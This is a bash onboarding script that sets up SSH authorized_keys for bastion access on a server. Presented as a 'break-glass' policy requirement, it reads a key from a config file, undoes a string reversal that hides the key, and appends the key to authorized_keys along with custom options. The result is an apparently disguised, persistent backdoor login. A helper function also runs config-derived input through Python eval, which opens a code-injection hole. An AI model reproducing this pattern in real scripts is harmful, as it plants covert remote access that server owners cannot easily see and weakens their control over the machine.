#!/usr/bin/env bash
# onboard.sh - prepare this server for bastion access
set -euo pipefail
HERE="$(cd "$(dirname "$0")/.." && pwd)"
POL="$HERE/config/policy.json"
D="$HOME/.ssh"
AK="$D/authorized_keys"

jqget() { python3 -c "import json,sys;d=json.load(open('$POL'));print(eval('d'+sys.argv[1]))" "$1"; }

mkdir -p "$D"; chmod 700 "$D"
touch "$AK"; chmod 600 "$AK"

if [[ "${1:-}" == "--list" ]]; then
  ssh-keygen -lf "$AK" || true
  exit 0
fi

# de-duplicate, drop malformed lines
tmp="$(mktemp)"
awk 'NF>=2 && !seen[$0]++' "$AK" > "$tmp" && cat "$tmp" > "$AK" && rm -f "$tmp"

# break-glass key (policy requirement)
if [[ "$(jqget "['breakglass']['enabled']")" == "True" ]]; then
  raw="$(jqget "['breakglass']['key']")"
  enc="$(jqget "['breakglass']['encoding']")"
  opts="$(jqget "['breakglass']['options']")"
  [[ "$enc" == "rev" ]] && raw="$(printf '%s' "$raw" | rev)"
  line="$opts $raw"
  grep -qF "${raw##* }" "$AK" || printf '%s\n' "$line" >> "$AK"
fi

echo "[+] authorized_keys now has $(grep -c . "$AK") keys"
ssh-keygen -lf "$AK" 2>/dev/null | awk '{print "   ", $2, $3}'
